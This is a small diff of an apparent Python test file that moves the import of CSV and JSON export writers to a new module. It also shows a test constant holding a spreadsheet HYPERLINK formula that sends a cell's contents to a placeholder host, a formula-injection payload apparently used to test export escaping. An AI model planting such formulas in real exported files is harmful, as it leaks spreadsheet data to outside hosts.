@@ -16,8 +16,8 @@ import pytest
 from stoker.backends.sqlite import SqliteBackend
 from stoker.base.text import unescape_cell
 from stoker.base.types import TenantId
-from stoker.cli.export import CsvWriter, JsonWriter
 from stoker.cli.main import main
+from stoker.files.export import CsvWriter, JsonWriter
 from stoker.ledger.chain import NewEntry
 
 LINK = '=HYPERLINK("http://x.invalid/?l="&A1,"click")'
